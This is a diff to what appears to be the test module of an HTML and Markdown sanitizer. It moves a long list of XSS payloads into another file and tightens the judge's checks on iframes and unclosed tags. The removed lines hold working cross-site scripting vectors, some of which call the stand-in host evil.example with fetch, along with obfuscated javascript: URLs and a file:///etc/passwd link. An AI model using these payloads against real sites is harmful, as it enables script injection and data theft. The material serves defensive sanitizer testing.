@@ -1,90 +1,15 @@
-"""Texts that attack a page, and a judge that reads HTML as a browser's parser would and lists what is not allowed."""
+"""All texts that attack a page, and a judge that reads HTML as a parser would and lists what is not allowed."""
 
 from __future__ import annotations
 
 import re
 from html.parser import HTMLParser
 
-SET_FLAG = "window.ran=1;fetch('https://evil.example/x')"
+from .hostile_texts import BY_KIND
 
-PAYLOADS = (
-    f"<script>{SET_FLAG}</script>",
-    f"<SCRIPT>{SET_FLAG}</SCRIPT >",
-    '<script src="https://evil.example/x.js"></script>',
-    f'<img src=x onerror="{SET_FLAG}">',
-    f"<img/src/onerror={SET_FLAG}>",
-    f'<svg onload="{SET_FLAG}">',
-    f"<svg><script>{SET_FLAG}</script></svg>",
-    '<svg><use href="https://evil.example/s.svg#x"/></svg>',
-    f'<svg><animate onbegin="{SET_FLAG}" attributeName=x dur=1s>',
-    f'<math><mtext></mtext><mglyph><style><img src=x onerror="{SET_FLAG}"></style></mglyph></math>',
-    '<math href="javascript:alert(1)">x</math>',
-    f'<body onload="{SET_FLAG}">',
-    f'<details open ontoggle="{SET_FLAG}">x</details>',
-    f'<input autofocus onfocus="{SET_FLAG}">',
-    f'<video><source onerror="{SET_FLAG}"></video>',
-    '<iframe src="javascript:window.ran=1"></iframe>',
-    f'<iframe srcdoc="<script>parent.{SET_FLAG}</script>"></iframe>',
-    '<object data="https://evil.example/o"></object>',
-    '<embed src="https://evil.example/e">',
-    '<link rel=stylesheet href="https://evil.example/s.css">',
-    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
-    '<base href="https://evil.example/">',
-    '<form action="https://evil.example/"><button>go</button></form>',
-    "<style>body{background:url(https://evil.example/b)}</style>",
-    '<div style="background:url(https://evil.example/d)">x</div>',
-    '<div style="width:expression(window.ran=1)">x</div>',
-    "<!-- <script>window.ran=1</script>",
-    "<![CDATA[<script>window.ran=1</script>]]>",
-    "<?php <script>window.ran=1</script> ?>",
-    "</pre></code></div></td></table><script>window.ran=1</script>",
-    '"><script>window.ran=1</script>',
-    "'><img src=x onerror=window.ran=1>",
-    '" onmouseover="window.ran=1" x="',
-    "<a href='javascript:window.ran=1'>x</a>",
-    "[x](javascript:window.ran=1)",
-    "[x](JaVaScRiPt:window.ran=1)",
-    "[x](java\tscript:window.ran=1)",
-    "[x](<java\nscript:window.ran=1>)",
-    "[x](\x01javascript:window.ran=1)",
-    "[x](&#106;avascript:window.ran=1)",
-    "[x](javascript&colon;window.ran=1)",
-    "[x](&#x6A&#x61&#x76&#x61script:window.ran=1)",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example/x)",
-    "[x](blob:https://evil.example/x)",
-    "<javascript:window.ran=1>",
-    "<data:text/html,x>",
-    "[x]\n\n[x]: javascript:window.ran=1",
-    '[x](https://a.b "\\" onmouseover=window.ran=1 x=\\"")',
-    '[x](https://a.b/"onmouseover=window.ran=1)',
-    "![x](https://evil.example/pixel.png)",
-    "![x](javascript:window.ran=1)",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)",
-    '![" onerror="window.ran=1](https://evil.example/p)',
-    "[![x](https://evil.example/pixel.png)](javascript:window.ran=1)",
-    "```html\n<script>window.ran=1</script>\n```",
-    '```"><script>window.ran=1</script>\nx\n```',
-    "```python\n'</code></pre><script>window.ran=1</script>'",
-    "`<script>window.ran=1</script>`",
-    "| <script>window.ran=1</script> |\n|---|\n| <img src=x onerror=window.ran=1> |",
-    "<!--\n-->\n<script\n>window.ran=1</script\n>",
-    "$\\href{javascript:window.ran=1}{x}$",
-    "$$\\style{background:url(https://evil.example/m)}{x}$$",
-    "\\(\\require{html}\\) $<script>window.ran=1</script>$",
-    "\u202egnp.exe\u202c \u2066hidden\u2069 a\u200bb\ufeff",
-    "&#x202E;desrever&#x2066;",
-    "\x1b[2J\x1b]0;title\x07\x00\x08",
-    "tag\U000e0041\U000e0042 characters",
-    "half a \ud800 surrogate",
-    ">" * 3000 + "deep",
-    "- " * 2000 + "deep",
-    "[" * 3000 + "x" + "](https://a.b)" * 3000,
-    "<" * 5000,
-    "*" * 5000 + "x",
-)
+PAYLOADS = tuple(payload for kind in BY_KIND.values() for payload in kind)
+SOME = tuple(payload for kind in BY_KIND.values() for payload in kind[:4])
+"""Four of each kind, for widgets, which take long to make and show all texts by the same few functions."""
 
 _TAGS = {"div", "span", "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"} | {
     "table",
@@ -108,6 +33,14 @@ ALLOWED["audio"] = {"controls", "preload", "src", "title", "style"}
 ALLOWED["video"] = ALLOWED["audio"] | {"poster"}
 ALLOWED["details"] = ALLOWED["summary"] = {"style"}
 
+ALLOWED["sup"] = ALLOWED["summary"] = {"style"}
+ALLOWED["details"] = {"open", "style"}
+ALLOWED["iframe"] = {"sandbox", "srcdoc", "title", "style"}
+_FRAME_BEGINS = (
+    '<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
+    "content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\">"
+)
+_VOID = {"br", "hr", "img"}
 _SOURCE = re.compile(r"data:(?:image/(?:webp|png|jpeg)|audio/[a-z0-9]+|video/[a-z0-9]+);base64,[A-Za-z0-9+/=]*\Z")
 _RELATIVE = re.compile(r"[A-Za-z0-9_.%~-]+(?:/[A-Za-z0-9_.%~-]+)*\Z")
 _BAD_STYLE = re.compile(r"url|expression|import|position|behavio|\\|<|javascript", re.IGNORECASE)
@@ -118,11 +51,23 @@ class _Judge(HTMLParser):
     def __init__(self) -> None:
         super().__init__(convert_charrefs=True)
         self.faults: list[str] = []
+        self.open: list[str] = []
+
+    def handle_endtag(self, tag: str) -> None:
+        if self.open[-1:] == [tag]:
+            self.open.pop()
+        elif tag not in _VOID:
+            self.faults.append(f"stray </{tag}>")
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.open += [] if tag in _VOID else [tag]
         if tag not in ALLOWED:
             self.faults.append(f"tag {tag}")
             return
+        if tag == "iframe":
+            walls = dict(attrs)
+            if walls.get("sandbox") != "" or not (walls.get("srcdoc") or "").startswith(_FRAME_BEGINS):
+                self.faults.append("a frame without walls")
         for name, given in attrs:
             value = given or ""
             if name not in ALLOWED[tag]:
@@ -159,4 +104,4 @@ def faults(html: str) -> list[str]:
     judge = _Judge()
     judge.feed(html)
     judge.close()
-    return judge.faults
+    return [*judge.faults, *(f"<{tag}> is not closed" for tag in judge.open)]
